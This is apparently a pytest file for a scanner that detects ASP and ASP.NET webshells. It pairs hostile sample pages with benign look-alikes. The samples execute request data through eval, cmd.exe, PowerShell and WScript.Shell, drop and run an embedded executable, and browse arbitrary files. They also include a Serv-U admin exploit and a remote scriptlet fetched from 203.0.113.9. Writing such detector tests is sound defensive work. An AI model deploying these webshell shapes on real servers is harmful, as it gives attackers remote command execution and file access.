"""Page-level ASP and ASP.NET shapes (asp_shapes and the reader's decoding): each with a sample written
here, and a benign look-alike that must stay below the threshold."""

import base64

from agent.imagegate import webshell
from agent.imagegate.webshell import THRESHOLD, asp_vbe
from agent.imagegate.webshell.common import Budget, Limits


def scan(text, name):
    return webshell.scan(name, text.encode("utf-8") if isinstance(text, str) else text)


def shell(text, name="x.asp"):
    hits = scan(text, name)
    assert hits and hits[0].confidence >= THRESHOLD, hits
    assert hits[0].snippet and len(hits[0].snippet) <= 240
    return hits[0]


def benign(text, name="x.asp"):
    hits = scan(text, name)
    assert not webshell.is_shell(hits), hits


# --- Script Encoder over a double-byte code page -----------------------------------------------

def _encode_dbcs(raw: bytes) -> bytes:
    """The Script Encoder as it treats a GBK page: a lead byte and its trail byte copied, uncounted."""
    out = bytearray()
    index = 0
    i = 0
    while i < len(raw):
        c = raw[i]
        if 0x80 < c < 0xFF and i + 1 < len(raw):
            out += raw[i:i + 2]
            i += 2
            continue
        col = asp_vbe._COLS[int(asp_vbe._PICK[index % 64])]
        out.append(col.index(c, 9) if chr(c) not in "<>@\r\n" else c)
        index += 1
        i += 1
    return bytes(out)


def test_encoded_page_with_gbk_text_decodes_past_the_text():
    # "\xb2\x40" is a GBK character whose trail byte is '@' in ASCII: read one byte a character, the
    # rest of the block would decode to noise and the Execute after it would be lost
    plain = 'x = "\xb2\x40\xd6\xd0" : Execute Request("z")'.encode("latin-1")
    page = b"<%@ LANGUAGE = VBScript.Encode %><%#@~^AAAAAA==" + _encode_dbcs(plain) + b"AAAAAA==^#~@%>"
    assert asp_vbe.decode_all(page.decode("latin-1"), Budget(Limits())).count("Execute Request") == 1
    h = shell(page)
    assert h.rule == "asp.request-to-eval"


def test_encoded_page_in_a_single_byte_code_page_still_decodes():
    plain = 'x = "\xe7a\xfcb" : Execute Request("z")'.encode("latin-1")  # windows-1254 letters
    enc = bytearray()
    index = 0
    for c in plain:
        if c >= 0x80:
            enc.append(c)  # copied, and not counted
            continue
        enc.append(asp_vbe._COLS[int(asp_vbe._PICK[index % 64])].index(c, 9))
        index += 1
    h = shell(b"<%@ LANGUAGE = VBScript.Encode %><%#@~^AAAAAA==" + bytes(enc) + b"AAAAAA==^#~@%>")
    assert h.rule == "asp.request-to-eval"


# --- Execute of code pieced together from constants --------------------------------------------

def test_execute_of_replaced_split_and_unescaped_constant():
    h = shell('<%\na="ex@@ec@@ute%20req@@uest%28%22k%22%29"\nb=replace(a,"@@","|")\nc=split(b,"|")\n'
              'for i=0 to ubound(c)\nt=t+c(i)\nnext\nexecute(unescape(t))\n%>')
    assert h.rule == "asp.dynamic-eval" and h.confidence >= 0.8


def test_execute_through_a_home_made_replace_decoder():
    h = shell('<%\nFunction Dec(s)\ns = Replace(s, "#q", "s")\ns = Replace(s, "h4", "(")\ns = Replace(s, "w4", ")")\n'
              'Dec = s\nEnd Function\nc = "x = reque#qth4""data""w4"\nexecute(Dec(c))\n%>')
    assert h.confidence >= 0.8


def test_benign_execute_of_constant_settings():
    benign('<%\nFunction Dec(s)\nDec = Replace(s, "#", "=")\nEnd Function\nc = "title # ""Home"""\n'
           'execute(Dec(c))\n%>')


# --- JScript.NET --------------------------------------------------------------------------------

def test_jscript_eval_in_unsafe_mode_inside_a_helper():
    h = shell('<script runat="server" language="JScript">\nfunction run(str) {\nvar a = "un" + "safe";\n'
              'return eval(str, a);\n}\n</script>', "x.aspx")
    assert h.rule == "aspx.dynamic-eval" and h.confidence >= 0.75


def test_jscript_eval_of_a_helper_parameter_without_unsafe_stays_below():
    benign('<script runat="server" language="JScript">\nfunction run(str) {\nreturn eval(str);\n}\n</script>',
           "x.aspx")


def test_jscript_net_web_method_parameter_is_request_data():
    h = shell('<%@ WebService Language="JScript" class="S"%>import System.Web.Services;\n'
              'public class S extends WebService { WebMethodAttribute function Run(p : String) : String {'
              ' return eval(p); } }', "x.asmx")
    assert h.rule == "aspx.request-to-eval" and h.source == "web method parameter"


def test_base64_constant_holding_request_code():
    lit = base64.b64encode(b'Request.Item["z"]').decode()
    h = shell(f'<%\nrun(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String("{lit}")));\n%>',
              "x.aspx")
    assert h.rule == "aspx.encoded-request-code"


def test_base64_constant_of_plain_data_is_not_code():
    lit = base64.b64encode(b"a logo, a banner and the footer text of the site").decode()
    benign(f'<%\nvar logo = System.Convert.FromBase64String("{lit}");\nResponse.BinaryWrite(logo);\n%>', "x.aspx")


# --- C# in a page saved under a classic ASP name ---------------------------------------------

def test_csharp_page_with_an_asp_name_writes_form_text_to_a_form_path():
    h = shell('<%@ Page Language="C#" %><script runat="server">\nvoid Save(object s, EventArgs e) {\n'
              'var w = new System.IO.StreamWriter(this.txtPath.Text, true);\nw.Write(this.txtBody.Text);\n'
              'w.Close();\n}\n</script><form runat="server"><asp:TextBox id="txtPath" runat="server"/>'
              '<asp:TextBox id="txtBody" runat="server"/></form>')
    assert h.rule == "asp.request-to-file-write"


# --- a command in an XSLT stylesheet's script ----------------------------------------------------

def test_xslt_script_starting_a_shell():
    h = shell('<%\nset x = Server.CreateObject("MSXML2.DOMDocument")\nx.loadxml("<r>cmd /c ver</r>")\n'
              'set s = Server.CreateObject("MSXML2.DOMDocument")\n'
              's.loadxml("<xsl:stylesheet xmlns:msxsl=""urn:schemas-microsoft-com:xslt""><msxsl:script '
              'language=""JScript"" implements-prefix=""u""> function run(c) { var a = new ActiveXObject('
              '\'wscript.shell\'); return a.Exec(c).StdOut.ReadAll(); }</msxsl:script></xsl:stylesheet>")\n'
              'response.write x.TransformNode(s)\n%>')
    assert h.rule.endswith("-exec") and "XSLT" in h.detail


def test_xslt_without_script_is_a_transform():
    benign('<%\nset x = Server.CreateObject("MSXML2.DOMDocument")\nx.load(Server.MapPath("feed.xml"))\n'
           'set s = Server.CreateObject("MSXML2.DOMDocument")\ns.load(Server.MapPath("feed.xsl"))\n'
           'response.write x.TransformNode(s)\n%>')


# --- an executable carried in the page ------------------------------------------------------------

def test_page_dropping_an_embedded_executable():
    pe = "MZ" + "&Chr(144)&Chr(0)" + "&\"" + "This program cannot be run in DOS mode." + "x" * 80 + "\""
    h = shell('<%\nSub Drop()\nSet f = CreateObject("Scripting.FileSystemObject")\n'
              f'b = "{pe[:2]}"{pe[2:]}\n'
              'Set o = f.CreateTextFile(f.GetSpecialFolder(2) & "\\svc.exe", 2, 0)\no.Write b\no.Close\n'
              'CreateObject("WScript.Shell").Run f.GetSpecialFolder(2) & "\\svc.exe", 0, false\nEnd Sub\nDrop\n%>')
    assert h.rule == "asp.drops-executable"


def test_page_writing_a_text_report_is_not_a_dropper():
    benign('<%\nSet f = CreateObject("Scripting.FileSystemObject")\n'
           'Set o = f.CreateTextFile(Server.MapPath("report.txt"), True)\n'
           'o.Write "This report cannot be run, it lists the visits."\no.Close\n%>')


# --- file browser over raw request paths -----------------------------------------------------------

def test_vbscript_browser_lists_and_reads_any_path():
    h = shell('<%\np = request("p")\nIf p = "" Then p = "c:\\"\nSet fs = CreateObject("Scripting.FileSystemObject")\n'
              'Set d = fs.GetFolder(p)\nFor Each x In d.Files\nResponse.Write x.Name\nNext\n'
              'If request("f") <> "" Then\nSet t = fs.OpenTextFile(request("f"), 1)\nResponse.Write t.ReadAll\n'
              'End If\n%>')
    assert h.rule == "asp.file-browser"


def test_csharp_browser_lists_and_downloads_any_path():
    h = shell('<%@ Page Language="C#" %><script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
              'string dir = Request.Params["d"];\nvar di = new System.IO.DirectoryInfo(dir);\n'
              'foreach (var f in di.GetFiles()) Response.Write(f.Name);\n'
              'string file = Request.Params["f"];\nif (file != null) Response.WriteFile(file);\n}\n</script>',
              "x.aspx")
    assert h.rule == "aspx.file-browser"


def test_admin_page_reading_and_deleting_a_named_file_is_not_a_browser():
    # (a forum's database setup page: it reads and deletes the script the form names)
    benign('<%\nSet fs = CreateObject("Scripting.FileSystemObject")\n'
           'Set t = fs.OpenTextFile(Request.Form("dbMod"), 1, False)\nsql = t.ReadAll\n'
           'If request("del") = "1" Then fs.DeleteFile(Request.Form("dbMod"))\n%>')


def test_listing_under_the_site_root_is_not_a_browser():
    benign('<%\nSet fs = CreateObject("Scripting.FileSystemObject")\n'
           'Set d = fs.GetFolder(Server.MapPath("/gallery/" & request("album")))\n'
           'For Each x In d.Files\nResponse.Write x.Name\nNext\n'
           'Set t = fs.OpenTextFile(Server.MapPath("/gallery/" & request("album") & "/notes.txt"), 1)\n'
           'Response.Write t.ReadAll\n%>')


# --- a page that writes request data into itself ---------------------------------------------------

def test_page_appending_request_text_to_itself():
    h = shell('<%\nme = Request.ServerVariables("SCRIPT_NAME")\nmsg = request.form("what")\n'
              'if msg <> "" then\nSet fs = Server.CreateObject("Scripting.FileSystemObject")\n'
              'Set f = fs.OpenTextFile(Server.MapPath(me), 8, False)\nf.Writeline msg\nf.Close\nend if\n%>')
    assert h.rule == "asp.writes-itself"


def test_guestbook_appending_to_its_data_file():
    benign('<%\nmsg = request.form("what")\nif msg <> "" then\n'
           'Set fs = Server.CreateObject("Scripting.FileSystemObject")\n'
           'Set f = fs.OpenTextFile(Server.MapPath("guestbook.txt"), 8, True)\nf.Writeline msg\nf.Close\n'
           'end if\n%>')


# --- known tools -------------------------------------------------------------------------------------

def test_serv_u_local_admin_exploit():
    h = shell('<%\nc = request("c")\nset a = Server.CreateObject("Microsoft.XMLHTTP")\n'
              'a.open "GET", "http://127.0.0.1:43958/", True\n'
              'a.send "User admin" & vbCrLf & "SITE MAINTENANCE" & vbCrLf & "-SETUSERSETUP" & vbCrLf\n'
              'set b = Server.CreateObject("Microsoft.XMLHTTP")\nb.open "GET", "http://127.0.0.1:21/", True\n'
              'b.send "site exec " & c & vbCrLf\n%>')
    assert h.rule == "asp.serv-u-exploit"


def test_registry_sweep_of_every_hive():
    h = shell('<%@ Page Language="C#" %><%\nvar s = new System.Collections.Stack();\n'
              's.Push(Microsoft.Win32.Registry.ClassesRoot);\ns.Push(Microsoft.Win32.Registry.CurrentUser);\n'
              's.Push(Microsoft.Win32.Registry.LocalMachine);\ns.Push(Microsoft.Win32.Registry.Users);\n'
              'while (s.Count > 0) { var k = (Microsoft.Win32.RegistryKey)s.Pop(); }\n%>', "x.aspx")
    assert h.rule == "aspx.registry-sweep"


def test_reading_one_registry_value_is_configuration():
    benign('<%@ Page Language="C#" %><%\nvar k = Microsoft.Win32.Registry.LocalMachine.OpenSubKey('
           '"SOFTWARE\\\\Shop");\nvar v = k.GetValue("Version");\n%>', "x.aspx")


def test_sub_called_without_parentheses_gets_the_request_data():
    # a writable-folder scanner: the request's paths go to a Sub called VB-style, `Probe p, True`
    h = shell('<%\nSub Probe(dir, deep)\nSet fs = CreateObject("Scripting.FileSystemObject")\n'
              'f = dir & "\\" & fs.GetTempName\nfs.CreateTextFile(f)\nfs.DeleteFile(f)\n'
              'For Each d In fs.GetFolder(dir).SubFolders\nProbe d.Path, deep\nNext\nEnd Sub\n'
              'ps = Split(Request("paths"), vbCrLf)\nFor i = 0 To UBound(ps)\nProbe Trim(ps(i)), True\nNext\n%>')
    assert h.rule == "asp.file-browser" and 'request("paths")' in h.source.lower()


def test_sub_called_with_a_constant_folder_is_maintenance():
    benign('<%\nSub Clean(dir)\nSet fs = CreateObject("Scripting.FileSystemObject")\n'
           'For Each f In fs.GetFolder(dir).Files\nfs.DeleteFile f.Path\nNext\nEnd Sub\n'
           'If Request("go") = "1" Then Clean Server.MapPath("/cache")\n%>')


def test_directive_left_open_does_not_swallow_the_code_after_it():
    h = shell('<% @Page Language="Jscript"><%eval(Request.Item["c"],"unsafe");%>', "x.aspx")
    assert h.rule == "aspx.request-to-eval"


def test_closed_directive_then_markup_only():
    benign('<% @Page Language="Jscript" %><p>eval(Request.Item["c"]) is how the docs spell it</p>', "x.aspx")


def test_handler_planting_an_include_page():
    h = shell('<%@ WebHandler Language="C#" class="H" %>\nusing System.IO; using System.Web;\n'
              'public class H : IHttpHandler { public void ProcessRequest(HttpContext c) {\n'
              'StreamWriter w = File.CreateText(c.Server.MapPath("index2.aspx"));\n'
              'w.Write("<!--#include file=\\"data.aspx\\" -->");\nw.Close(); }\n'
              'public bool IsReusable { get { return false; } } }', "x.ashx")
    assert h.rule == "aspx.plants-page"


def test_handler_writing_a_text_log_is_not_planting():
    benign('<%@ WebHandler Language="C#" class="H" %>\nusing System.IO; using System.Web;\n'
           'public class H : IHttpHandler { public void ProcessRequest(HttpContext c) {\n'
           'StreamWriter w = File.AppendText(c.Server.MapPath("~/App_Data/hits.log"));\n'
           'w.Write("<p>visit</p>");\nw.Close(); }\npublic bool IsReusable { get { return false; } } }', "x.ashx")


def test_jscript_evaluate_from_csharp():
    h = shell('<%@ Page Language="C#" %><% Response.Write(Microsoft.JScript.Eval.JScriptEvaluate(Request["c"], '
              'Microsoft.JScript.Vsa.VsaEngine.CreateEngine())); %>', "x.aspx")
    assert h.rule == "aspx.request-to-eval"


def test_wscript_shell_driven_through_invoke_member():
    h = shell('<%@ Page Language="C#" %><% object o = System.Activator.CreateInstance(Type.GetTypeFromProgID('
              '"WScript.Shell")); o.GetType().InvokeMember("Run", System.Reflection.BindingFlags.InvokeMethod, '
              'null, o, new object[]{Request["c"]}); %>', "x.aspx")
    assert h.rule == "aspx.request-to-exec"


def test_invoke_member_on_a_plain_object_is_reflection():
    benign('<%@ Page Language="C#" %><% var t = typeof(Calc); t.InvokeMember("Add", '
           'System.Reflection.BindingFlags.InvokeMethod, null, calc, new object[]{Request["a"]}); %>', "x.aspx")


def test_execute_of_downloaded_code():
    h = shell('<%\nSet x = Server.CreateObject("Microsoft.XMLHTTP")\nx.open "GET", Request("u"), False\nx.send\n'
              'Execute x.responseText\n%>')
    assert h.confidence >= 0.75


def test_showing_a_downloaded_page_is_not_executing_it():
    benign('<%\nSet x = Server.CreateObject("Microsoft.XMLHTTP")\nx.open "GET", "http://feeds.example/news", False\n'
           'x.send\nResponse.Write x.responseText\n%>')


# --- hostile input to the new shapes: bounded time, no crash -----------------------------------------

import time  # noqa: E402


def _bounded(text, name="x.asp", seconds=10.0):
    t0 = time.process_time()
    hits = scan(text, name)
    assert time.process_time() - t0 < seconds
    return hits


def test_thousands_of_pieced_executes_stay_bounded():
    body = "".join(f'a{i}="ab@@cd%20{"x" * 40}"\nb{i}=replace(a{i},"@@","")\nexecute(unescape(b{i}))\n'
                   for i in range(3000))
    _bounded("<%\n" + body + "%>")


def test_thousands_of_file_flows_on_request_paths_stay_bounded():
    body = "".join(f'p{i} = request("p{i}") & p{i - 1}\nfs.DeleteFile p{i}\nSet d{i} = fs.GetFolder(p{i})\n'
                   for i in range(1, 3000))
    _bounded('<%\nSet fs = CreateObject("Scripting.FileSystemObject")\np0 = ""\n' + body + "%>")


def test_large_encoded_block_full_of_high_bytes_stays_bounded():
    block = bytes((0xB2 if i % 3 else 0x40) for i in range(1_000_000))
    _bounded(b"<%@ LANGUAGE = VBScript.Encode %><%#@~^AAAAAA==" + block + b"AAAAAA==^#~@%>")


def test_many_base64_literals_stay_bounded():
    lits = "".join(f'x{i} = "{base64.b64encode(bytes([i % 256]) * 3000).decode()}"\n' for i in range(2000))
    _bounded("<%\n" + lits + "%>", "x.aspx")


def test_adodb_stream_saves_the_request_body_to_a_form_named_path():
    h = shell('<%\nSet s = Server.CreateObject("ADODB.Stream")\ns.Type = 1\ns.Open\n'
              's.Write Request.BinaryRead(Request.TotalBytes)\ns.SaveToFile Request.QueryString("p"), 2\ns.Close\n%>')
    assert h.rule == "asp.request-to-file-write" and h.confidence >= 0.6


def test_upload_component_saving_under_the_site_stays_below():
    benign('<%\nSet s = Server.CreateObject("ADODB.Stream")\ns.Type = 1\ns.Open\n'
           's.Write Request.BinaryRead(Request.TotalBytes)\n'
           's.SaveToFile Server.MapPath("/uploads/" & Request.QueryString("n") & ".jpg"), 2\ns.Close\n%>')


def test_cmd_exe_fed_the_request_on_stdin():
    h = shell('<%@ Page Language="C#" %><% var p = new System.Diagnostics.Process(); p.StartInfo.FileName = "cmd.exe";'
              ' p.StartInfo.RedirectStandardInput = true; p.StartInfo.UseShellExecute = false; p.Start();'
              ' p.StandardInput.WriteLine(Request["c"]); Response.Write(p.StandardOutput.ReadToEnd()); %>', "x.aspx")
    assert h.rule == "aspx.request-to-exec" and h.sink == "process stdin"


def test_fixed_tool_with_fixed_stdin_is_not_a_shell():
    benign('<%@ Page Language="C#" %><% var p = new System.Diagnostics.Process(); p.StartInfo.FileName = "sort.exe";'
           ' p.StartInfo.RedirectStandardInput = true; p.Start(); p.StandardInput.WriteLine("b\\na");'
           ' var q = Request["q"]; %>', "x.aspx")


def test_remote_scriptlet_through_getobject():
    assert shell('<%\nSet o = GetObject("script:" & Request("u"))\n%>').rule == "asp.request-to-eval"
    assert shell('<%\nSet o = GetObject("script:http://203.0.113.9/x.sct")\n%>').confidence >= 0.75


def test_getobject_for_wmi_is_administration():
    benign('<%\nSet w = GetObject("winmgmts:\\\\.\\root\\cimv2")\nSet q = w.ExecQuery("select * from '
           'Win32_OperatingSystem")\n%>')


def test_request_deserialised_by_los_formatter():
    h = shell('<%@ Page Language="C#" %><% var f = new System.Web.UI.LosFormatter(); '
              'f.Deserialize(Request.Form["v"]); %>',
              "x.aspx")
    assert h.rule == "aspx.request-to-deserialisation"


def test_current_domain_load_of_request_bytes():
    h = shell('<%@ Page Language="C#" %><% var a = '
              'AppDomain.CurrentDomain.Load(Convert.FromBase64String(Request["a"])); %>',
              "x.aspx")
    assert h.rule == "aspx.request-to-classload"


def test_include_of_an_image_as_server_code():
    assert shell('<!--#include file="upload/logo.jpg"-->\n<p>hi</p>').rule == "asp.includes-image-as-code"
    assert shell('<%@ include file="img/a.gif" %><html></html>', "x.jsp").rule == "jsp.includes-image-as-code"


def test_include_of_a_page_and_an_image_tag():
    benign('<!--#include file="inc/header.asp"-->\n<img src="upload/logo.jpg">')


def test_log_beside_the_page_named_after_it_is_not_self_writing():
    benign('<%\nlf = Server.MapPath(Request.ServerVariables("SCRIPT_NAME") & ".log")\n'
           'Set fs = Server.CreateObject("Scripting.FileSystemObject")\nSet f = fs.OpenTextFile(lf, 8, True)\n'
           'f.Writeline Request.Form("q")\nf.Close\n%>')


import pytest  # noqa: E402


@pytest.mark.parametrize("page", [
    '<%@ Page Language="C#" %><% Type.GetType("System.Diagnostics.Process").GetMethod("Start", new '
    'Type[]{typeof(string),'
    ' typeof(string)}).Invoke(null, new object[]{"cmd.exe", "/c " + Request["c"]}); %>',
    '<%@ Page Language="C#" %><% var rs = System.Management.Automation.Runspaces.RunspaceFactory.CreateRunspace(); '
    'rs.Open();'
    ' var pl = rs.CreatePipeline(); pl.Commands.AddScript(Request.Form["c"]); pl.Invoke(); %>',
    '<%@ Page Language="C#" %><% var ps = System.Management.Automation.PowerShell.Create(); ps.AddScript(Request["c"]);'
    ' ps.Invoke(); %>',
    '<%@ Page Language="C#" %><% var mc = new System.Management.ManagementClass("Win32_Process");'
    ' mc.InvokeMethod("Create", new object[]{Request["c"]}); %>',
    '<%@ Page Language="VB" %><% Microsoft.VisualBasic.Interaction.Shell(Request("c")) %>',
    '<%@ Page Language="VB" %><% Shell("cmd.exe /c " & Request.Form("c"), AppWinStyle.Hide) %>',
])
def test_more_dotnet_command_sinks(page):
    assert shell(page, "x.aspx").rule == "aspx.request-to-exec"


def test_powershell_with_a_fixed_script_and_a_search_box():
    benign('<%@ Page Language="C#" %><% var ps = System.Management.Automation.PowerShell.Create();'
           ' ps.AddScript("Get-Date"); ps.Invoke(); var q = Request["q"]; %>', "x.aspx")


def test_page_importing_an_administration_tool_belt_with_its_code_cut_out():
    h = shell('<%@ Page Language="C#" %>\n<%@ import Namespace="System.IO"%>\n'
              '<%@ import Namespace="System.Diagnostics"%>\n'
              '<%@ import Namespace="System.Management"%>\n<%@ import Namespace="Microsoft.Win32"%>\n'
              '<%@ import Namespace="System.ServiceProcess"%>\n<script runat="server">\n</script>\n<html></html>',
              "x.aspx")
    assert h.rule == "aspx.admin-namespaces"


def test_page_importing_diagnostics_and_io_is_ordinary():
    benign('<%@ Page Language="C#" %>\n<%@ import Namespace="System.IO"%>\n'
           '<%@ import Namespace="System.Diagnostics"%>\n'
           '<%@ import Namespace="System.Net.Sockets"%>\n<%@ import Namespace="System.Runtime.InteropServices"%>\n'
           '<% Trace.Write("x"); %>', "x.aspx")
